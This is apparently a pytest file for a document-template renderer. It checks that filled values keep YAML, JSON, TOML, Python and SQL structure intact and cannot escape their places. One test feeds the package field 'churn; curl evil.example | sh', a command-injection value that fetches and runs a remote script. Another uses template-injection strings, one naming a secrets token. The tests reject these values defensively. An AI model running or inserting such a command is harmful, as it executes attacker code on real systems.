"""Bodies of templates: every value as its place asks for, and nothing that breaks out of it."""

from __future__ import annotations

import ast
import json
import tomllib
from typing import Any

import pytest
import sqlglot
import yaml
from hypothesis import given, settings
from hypothesis import strategies as st

from mlplaybook.server.artefacts.documents.places import PLACEHOLDER, find_places
from mlplaybook.server.artefacts.documents.to_body import fit, to_body
from mlplaybook.server.artefacts.library import load_template, names
from mlplaybook.server.artefacts.records import Fill
from tests.server.documents.fills import by_person, example_of, fill_of

BODIES = [name for name in names("templates") if load_template(name).body]
FORMS = {name: load_template(name).form for name in BODIES}


def skeleton(name: str, text: str) -> Any:
    """What a document is made of without its values: keys, statements, lines."""
    form = "yaml" if name == "grounded-answer-prompt" else FORMS[name]
    if form == "yaml":
        return keys(yaml.safe_load(text))
    if form == "json":
        return keys(json.loads(text))
    if form == "toml":
        return keys(tomllib.loads(text))
    if form == "python":
        return [type(node).__name__ for node in ast.parse(text).body]
    if form == "sql":
        return [type(statement).__name__ for statement in sqlglot.parse(text, dialect="duckdb")]
    return len(text.splitlines())


def keys(value: Any) -> Any:
    if isinstance(value, dict):
        return {str(key): keys(part) for key, part in value.items()}
    return [keys(part) for part in value] if isinstance(value, list) and value and isinstance(value[0], dict) else None


@pytest.mark.parametrize("name", BODIES)
def test_every_place_is_a_field_or_left_alone(name: str) -> None:
    template = load_template(name)
    used = {match["name"] for match in PLACEHOLDER.finditer(template.body)}
    assert used == {place.name for place in find_places(template)} == {field.name for field in template.fields}


@pytest.mark.parametrize("name", BODIES)
def test_the_example_is_a_document_of_its_form(name: str) -> None:
    template, fill = example_of(name)
    assert [n for n, filled in fit(template, fill).fields.items() if filled.status == "invalid"] == []
    made = to_body(template, fill)
    assert skeleton(name, made)
    assert "TODO(" not in made or any(filled.status == "missing" for filled in fill.fields.values())


@pytest.mark.parametrize("name", BODIES)
def test_without_values_the_form_stays_whole_and_says_what_is_missing(name: str) -> None:
    template = load_template(name)
    fill = fill_of(template, {})
    made = to_body(template, fill)
    if FORMS[name] != "sql":
        assert skeleton(name, made)
    for field in template.fields:
        if fill.fields[field.name].status == "missing" and field.required:
            assert f"TODO({field.name})" in made


def with_text(name: str, text: str) -> tuple[Fill, Fill]:
    """The example, and the same with a text in every text field, as far as it fits."""
    template, example = example_of(name)
    fields = {f.name: by_person(f, text) if f.type == "text" else example.fields[f.name] for f in template.fields}
    return example, fit(template, Fill(name, fields))


@settings(max_examples=40, deadline=None)
@given(st.sampled_from([name for name in BODIES if FORMS[name] != "markdown"]), st.text(max_size=40))
def test_no_text_changes_what_a_document_is_made_of(name: str, text: str) -> None:
    template = load_template(name)
    example, fill = with_text(name, text)
    if name in {"sweep-config", "prediction-api"}:
        # Their keys are values: sweep parameters are named by the project, and so is the confidence.
        fill = Fill(
            name,
            {n: example.fields[n] if n.endswith((".key", ".confidence.name")) else f for n, f in fill.fields.items()},
        )
    made = to_body(template, fill)
    if FORMS[name] == "sql":
        assert made.count(";") == to_body(template, example).count(";")
    else:
        assert skeleton(name, made) == skeleton(name, to_body(template, example))


def test_what_a_shell_would_act_on_is_not_put_into_code() -> None:
    template = load_template("cicd-workflow")
    fill = fit(
        template, fill_of(template, {"package": "churn; curl evil.example | sh", "lock_file": "requirements.lock"})
    )
    filled = fill.fields["package"]
    assert (filled.status, filled.value) == ("invalid", None)
    assert filled.problem == "'churn; curl evil.example | sh' cannot stand at its place in the document: it holds ';'."
    assert "curl" not in to_body(template, fill)


def test_braces_in_a_value_stay_braces() -> None:
    template = load_template("architecture-decision-record")
    fill = fill_of(template, {"title": "{{ 7 * 7 }} {% raw %} {{ id }} ${{ secrets.TOKEN }}"})
    assert "{{ 7 * 7 }} {% raw %} {{ id }} ${{ secrets.TOKEN }}" in to_body(template, fill).splitlines()[0]


def test_expressions_of_github_are_no_places() -> None:
    template, fill = example_of("cicd-workflow")
    assert 'MODEL_VERSION: "${{ (needs.train-and-validate.outputs.version) }}"' in to_body(template, fill)


def test_lists_are_written_as_the_form_writes_them() -> None:
    dashboard, fill = example_of("monitoring-dashboard")
    assert "\n  message_length    0.08  OK\n  product_category  0.12  WARN\n" in to_body(dashboard, fill)
    project, fill = example_of("python-project")
    assert 'dependencies = [\n    "torch==2.13.0",\n' in to_body(project, fill)
    conda, fill = example_of("conda-environment")
    assert "channels: [conda-forge, nodefaults]  #" in to_body(conda, fill)
    record, fill = example_of("architecture-decision-record")
    assert "| Option | Reason |\n| --- | --- |\n| Online inference |" in to_body(record, fill)
